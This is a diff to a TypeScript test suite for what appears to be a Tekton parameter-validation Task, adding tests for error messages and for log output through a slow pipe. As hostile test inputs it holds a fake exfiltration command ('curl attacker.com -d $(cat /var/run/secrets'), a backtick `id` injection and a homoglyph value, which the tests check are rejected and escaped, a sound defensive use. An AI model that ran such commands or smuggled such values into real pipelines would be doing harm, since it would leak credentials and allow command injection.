@@ -77,6 +77,7 @@ t.test('hostile values: exit 1, every failure listed, values shown only escaped'
   t.notOk(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u.test(out.stderr), 'no control or bidi character in the log');
   t.notOk(out.stderr.includes('pr\u043ed'), 'the look-alike is escaped');
   t.match(out.stderr, /rejected 5 param value\(s\)/);
+  t.match(out.stderr, /\n  hint: fix each value where your Pipeline gets it; if a value is legitimate, change its rule in the "rules" param\n/);
   t.match(out.stderr, /- git-revision \(rule git-sha\): is 100 characters long; at most 64 are allowed; value: "--build-arg FOO=bar; curl attacker\.com -d \$\(cat \/var\/run\/secrets"… \(100 chars\)/);
   t.match(out.stderr, /- image-tag \(rule image-tag\): must be an image tag.*; value: "`id`"/);
   t.match(out.stderr, /- deploy-env \(rule enum\): must be one of "dev", "prod"; value: "pr\\u043ed"/);
@@ -107,10 +108,10 @@ t.test('missing and unknown params fail closed', async (t) => {
 t.test('bad rules or arguments: exit 2 naming the field, nothing validated', async (t) => {
   const cases: [string[], Record<string, string>, RegExp][] = [
     [[], {}, /RULES environment variable is not set/],
-    [[], { RULES: '{"a": {"type": "gitsha"}}' }, /RULES\.a\.type/],
-    [[], { RULES: '{"a": {"type": "regex", "pattern": "(a+)+", "maxLength": 9}}' }, /CONFIG_RULE_REGEX_UNSAFE.*rules\.a/],
+    [[], { RULES: '{"a": {"type": "gitsha"}}' }, /rules\.a\.type: must be one of the types/],
+    [[], { RULES: '{"a": {"type": "regex", "pattern": "(?<=x)a", "maxLength": 9}}' }, /CONFIG_RULE_REGEX_UNSUPPORTED.*rules\.a: .*lookbehind/],
     [[], { RULES: '{"a-b": {"type": "bool"}, "a_b": {"type": "bool"}}' }, /PARAM_A_B/],
-    [['--frobnicate'], { RULES }, /unknown option "--frobnicate"/],
+    [['--frobnicate'], { RULES }, /the "values" entry "--frobnicate" is not NAME=VALUE/],
     [['not-an-entry'], { RULES }, /is not NAME=VALUE/],
     [[`git-revision=${sha}`], { RULES, PARAM_GIT_REVISION: sha }, /given both/],
   ];
@@ -141,4 +142,42 @@ t.test("the Task's own args, expanded as Tekton would, validate a Pipeline's val
   t.equal(out.results.VALIDATED, 'true');
   const hostile = run(argv.map((a) => (a === 'image-tag=v1' ? '--help' : a)), env);
   t.equal(hostile.code, 2, 'a bare --help among the values is a usage error, never help with exit 0');
+});
+
+t.test('messages a pipeline author reads name the Task params and say what to change', async (t) => {
+  const cases: [string, string[], Record<string, string>, RegExp[]][] = [
+    ['a values entry without "="', ['oops'], { RULES }, [/the "values" entry "oops" is not NAME=VALUE/, /hint: write each entry of the "values" param as NAME=VALUE/]],
+    ['a misspelt type', [], { RULES: 'git-revision: {type: gitsha}' }, [/invalid rule set in the "rules" param:\n  rules\.git-revision\.type: must be one of the types git-sha, /, /hint: fix the "rules" param/]],
+    ['a regex rule without maxLength', [], { RULES: 'build-arg: {type: regex, pattern: "[A-Z_]+=.*"}' }, [/rules\.build-arg\.maxLength: is required: a regex rule needs maxLength, .*"maxLength": 256/]],
+    ['an empty rules param', [], { RULES: '' }, [/the "rules" param is empty/]],
+    ['elements without elements-name', ['--elements', '', 'x'], { RULES }, [/the "elements" param holds 1 element\(s\), but "elements-name" is empty/]],
+  ];
+  for (const [what, args, env, messages] of cases) {
+    const out = run(args, env);
+    t.equal(out.code, 2, what);
+    for (const message of messages) t.match(out.stderr, message, what);
+    t.notMatch(out.stderr, /--help|RULES\.|\bargument\b|Invalid discriminator|Invalid input/, `${what}: no program flag, env variable or schema wording`);
+  }
+  const tooLong = run(['deploy-env=production', `git-revision=${sha}`, 'image-tag=v1'], { RULES });
+  t.equal(tooLong.code, 1);
+  t.match(tooLong.stderr, /- deploy-env \(rule enum\): must be one of "dev", "prod"; value: "production"/, 'an enum value that is too long is told the values');
+  const missing = run([], { RULES, PARAM_IMAGE_TAG: 'v1', PARAM_DEPLOY_ENV: 'dev' });
+  t.match(missing.stderr, /- git-revision \(rule git-sha\): is missing: pass it in the "values" param \("git-revision=\$\(params\.git-revision\)"\)/);
+});
+
+t.test('a long failure report reaches a slow log reader whole (process.exit must not drop what the pipe has not taken)', async (t) => {
+  const count = 800;
+  const rules = JSON.stringify(Object.fromEntries(Array.from({ length: count }, (_, i) => [`p${i}`, { type: 'git-sha' }])));
+  const args = Array.from({ length: count }, (_, i) => `p${i}=${'not a sha; '.repeat(5)}${i}`);
+  // The reader sleeps first, so the step fills the 64 KiB pipe and has to wait for it.
+  const child = spawnSync('/bin/sh', ['-c', '"$0" "$@" 2>&1 >/dev/null | { sleep 1; cat; }', process.execPath, program, ...args], {
+    env: { RULES: rules, TEKTON_RESULTS_DIR: join(dir, 'results-slow') },
+    encoding: 'utf8',
+    timeout: 60_000,
+    maxBuffer: 16 << 20,
+  });
+  t.ok(child.stdout.length > 65536, `${child.stdout.length} bytes: more than a pipe holds`);
+  t.match(child.stdout, new RegExp(`rejected ${count} param value`));
+  t.equal(child.stdout.match(/^ {2}- p\d+ \(rule git-sha\)/gm)?.length, count, 'every failure is listed');
+  t.equal(child.stdout.match(/^metrics: /gm)?.length, count, 'and every metrics line follows');
 });
